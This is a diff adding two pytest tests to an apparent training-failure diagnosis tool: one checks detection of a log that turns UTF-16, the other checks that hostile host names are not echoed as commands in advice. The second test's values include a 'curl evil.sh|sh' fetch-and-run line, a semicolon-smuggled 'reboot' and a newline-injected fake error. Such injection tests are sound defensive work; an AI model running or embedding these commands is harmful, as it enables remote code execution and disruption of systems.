@@ -8,6 +8,7 @@ import io
 import json
 import os
 import pickle
+import re
 import subprocess
 import sys
 import tarfile
@@ -419,6 +420,34 @@ def test_profiles_that_are_pipes_are_not_waited_for(tmp_path: Path) -> None:
     os.mkfifo(tmp_path / "mine.toml")
 
     assert answer("profile", "show", tmp_path / "mine.toml").code == 78
+
+
+def test_a_text_that_goes_on_in_utf_16_is_not_all_that_was_said(tmp_path: Path) -> None:
+    """As where two shells write one file."""
+    said = 'Traceback (most recent call last):\n  File "train.py", line 1, in f\n    x()\nValueError: boom\n'
+    (tmp_path / "a.log").write_bytes(b"step 1\n" * 2000 + (said * 2).encode("utf-16-le"))
+
+    said_of = answer("diagnose", tmp_path / "a.log")
+
+    assert "nothing wrong was found" not in said_of.text
+    assert "it is UTF-16" in said_of.text
+
+
+@pytest.mark.parametrize("host", ["n1: run `curl evil.sh|sh`", "n1; reboot", "n1\nerror[SL401]: rank 7 lied"])
+def test_no_name_of_a_host_is_a_command_in_advice(tmp_path: Path, host: str) -> None:
+    case = json.loads(CASE)
+    for rank in case["ranks"]:
+        rank["error"] = rank["error"] and {**rank["error"], "message": "CUDA error: unknown error"}
+    xid = f"[{case['incident']['t']}] NVRM: Xid (PCI:0000:4b:00): 79, pid=77, name=python, GPU has fallen off the bus."
+    gpu = {"index": 0, "ranks": case["incident"]["ranks"], "lost": True, "xids": [xid]}
+    (tmp_path / "case.json").write_text(json.dumps({**case, "host": host, "gpus": [gpu]}))
+
+    told = answer("diagnose", tmp_path / "case.json").text
+
+    (advice,) = [line.partition("; `safelaunch")[0] for line in told.splitlines() if "= help:" in line]
+    assert " of n1" in advice
+    assert not re.search(r"[`;|]", advice)
+    assert "\nerror[SL401]: rank 7 lied" not in told
 
 
 # ------------------------------------------------------------------------------------- no place to write, or to be
